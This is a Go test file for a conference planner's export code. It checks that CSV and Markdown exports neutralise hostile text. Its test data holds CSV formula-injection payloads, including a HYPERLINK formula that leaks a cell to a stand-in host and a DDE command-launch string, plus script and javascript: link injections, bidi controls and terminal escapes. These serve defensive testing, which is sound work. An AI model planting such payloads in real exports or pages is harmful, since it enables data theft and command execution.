package export_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/russross/blackfriday/v2"

	"github.com/confplan/confplan/export"
	"github.com/confplan/confplan/planner"
)

// Titles a hostile or careless program file might carry.
var hostileTitles = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1+1`, `-2+3`, "\t=1", "\r=1",
	`<script>alert(1)</script> Oral Cavity`,
	`[click me](javascript:alert(1)) and ![x](http://evil.example/p.png)`,
	`see https://evil.example and www.evil.example or mail evil@evil.example`,
	"`code` *bold* _it_ ~~gone~~ | a | b | &lt;b&gt; &#60;i&#62;",
	"# Heading\n- list\n1. one",
	"Evil\u202etxt.exe\u202c \u2066isolate\u2069 \x1b[31mred\x1b[0m",
}

func hostileFollowUps() []planner.FollowUp {
	at := time.Date(2025, 9, 28, 14, 0, 0, 0, time.UTC)
	var out []planner.FollowUp
	for _, h := range hostileTitles {
		f := planner.FirstFollowUp(planner.Encounter{Name: "Jane Doe " + h, Institution: h, Where: h, Room: h, Notes: h, Role: h, At: at})
		f.Status = planner.StatusDue
		f.Subject, f.Body = "Re: "+h, "Dear Dr. Doe,\n\n"+h+"\n\n"+h
		f.Mailto = planner.Mailto("jdoe@emory.example", f.Subject, f.Body)
		out = append(out, f)
	}
	return out
}

func hostileItems() []planner.Item {
	var items []planner.Item
	for i, h := range hostileTitles {
		items = append(items, planner.Item{ID: h, Kind: planner.KindTalk, Title: h, Room: h, Board: h, Source: h,
			Start: time.Date(2025, 9, 28, 9+i%8, 0, 0, 0, time.UTC), End: time.Date(2025, 9, 28, 10+i%8, 0, 0, 0, time.UTC),
			People: []planner.Person{{Name: h, Role: planner.RoleSpeaker, Affiliations: []string{h}}}})
	}
	return items
}

// checkCSV fails when a cell could run as a formula or carries a bidi or
// control character.
func checkCSV(t *testing.T, what string, data []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: live cell %q", what, cell)
			}
			checkText(t, what, cell)
		}
	}
}

func checkText(t *testing.T, what, s string) {
	t.Helper()
	for _, r := range s {
		if planner.IsBidiControl(r) || r == 0x1b {
			t.Errorf("%s: %U in %q", what, r, s)
			return
		}
	}
}

func TestHostileCSV(t *testing.T) {
	var b bytes.Buffer
	if err := export.WriteFollowUpsCSV(&b, hostileFollowUps()); err != nil {
		t.Fatal(err)
	}
	checkCSV(t, "followups csv", b.Bytes())
	b.Reset()
	if err := export.WriteItemsCSV(&b, hostileItems()); err != nil {
		t.Fatal(err)
	}
	checkCSV(t, "inspect csv", b.Bytes())
	b.Reset()
	items := hostileItems()
	targets := &planner.Targets{People: []planner.Contact{{Name: hostileTitles[0]}}}
	m := &planner.Meeting{Name: "m", Zone: time.UTC, Items: items}
	r := &export.MatchReport{Meeting: m, Targets: targets, Matches: planner.NewMatcher(targets, planner.MatchOptions{}).Match(items)}
	if err := export.WriteMatchCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	checkCSV(t, "match csv", b.Bytes())
}

// The checklist, rendered by a real Markdown renderer (with autolinks),
// shows the hostile text as text: no HTML from it, no link or image but
// confplan's own mailto: drafts.
func TestHostileChecklist(t *testing.T) {
	var b bytes.Buffer
	fs := hostileFollowUps()
	if err := export.WriteChecklist(&b, fs, export.CalendarOptions{Zone: time.UTC, Name: hostileTitles[6]}); err != nil {
		t.Fatal(err)
	}
	checkText(t, "checklist", b.String())
	html := string(blackfriday.Run(b.Bytes(), blackfriday.WithExtensions(blackfriday.CommonExtensions|blackfriday.Autolink)))
	for _, bad := range []string{"<script", "<img", "src=", "href=\"javascript", "href=\"http", "<b>", "<i>", "<h1>Heading", "<table", "<del>", "<em>", "<strong>", "<code>"} {
		if strings.Contains(html, bad) {
			t.Errorf("rendered checklist holds %q:\n%s", bad, html)
		}
	}
	links := regexp.MustCompile(`<a href="([^"]*)"`).FindAllStringSubmatch(html, -1)
	own := 0
	for _, l := range links {
		switch {
		case strings.HasPrefix(l[1], "mailto:jdoe@emory.example?subject="):
			own++
		default:
			t.Errorf("a link confplan did not make: %q", l[1])
		}
	}
	if own != len(fs) {
		t.Errorf("%d draft links work, want %d:\n%s", own, len(fs), html)
	}
	// The text itself is still there to read.
	for _, want := range []string{"alert(1)", "evil.example", "Oral Cavity"} {
		if !strings.Contains(html, want) {
			t.Errorf("rendered checklist lost %q", want)
		}
	}
}

func TestCleanOutput(t *testing.T) {
	var b bytes.Buffer
	w := export.CleanOutput(&b)
	in := "a\u202eb\u2066c\u2069d\x1b[2J\x07\u009b é 日本"
	// Byte by byte: a sequence split across writes is still recognised.
	for i := 0; i < len(in); i++ {
		w.Write([]byte{in[i]})
	}
	if got := b.String(); got != "abcd[2J é 日本" {
		t.Errorf("got %q", got)
	}
}
